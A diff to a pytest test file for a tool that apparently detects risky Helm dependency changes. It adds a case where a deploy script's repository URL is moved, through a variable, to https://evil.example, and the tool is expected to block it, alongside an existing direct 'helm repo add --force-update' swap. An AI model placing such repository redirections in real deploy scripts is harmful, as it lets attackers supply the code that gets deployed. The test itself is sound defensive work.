@@ -153,7 +153,7 @@ def test_a_dependency_a_change_adds_judged_from_a_copy_blocks(tmp_path: Path) ->
     ]
 
 
-@pytest.mark.parametrize("edit", ["version", "requirements", "alias", "none"])
+@pytest.mark.parametrize("edit", ["version", "requirements", "alias", "computed", "none"])
 def test_a_dependency_s_constraint_or_requirements_yaml_a_change_writes_blocks(
     tmp_path: Path, edit: str
 ) -> None:
@@ -171,10 +171,15 @@ def test_a_dependency_s_constraint_or_requirements_yaml_a_change_writes_blocks(
     chart = repo.root / "charts/app/Chart.yaml"
     chart.write_text(chart.read_text().replace("oci://registry.example.com/charts", '"@acme"'))
     repo.write("ci/deploy.sh", "helm repo add acme https://charts.example.com\n")
+    computed = 'URL=%s\nhelm repo add acme "$URL"\n'  # (session 17: the change moves $URL)
+    if edit == "computed":
+        repo.write("ci/deploy.sh", computed % "https://charts.example.com")
     repo.commit("base")
     repo.branch("pr")
     if edit == "alias":
         repo.write("ci/deploy.sh", "helm repo add --force-update acme https://evil.example\n")
+    if edit == "computed":
+        repo.write("ci/deploy.sh", computed % "https://evil.example")
     if edit == "version":
         chart.write_text(chart.read_text().replace("2.x.x", '">=2.0.0"'))
     elif edit == "requirements":
@@ -217,4 +222,5 @@ def test_a_dependency_s_constraint_or_requirements_yaml_a_change_writes_blocks(
         ],
         "none": [],
     }
+    expected["computed"] = expected["alias"]
     assert blocking == expected[edit]
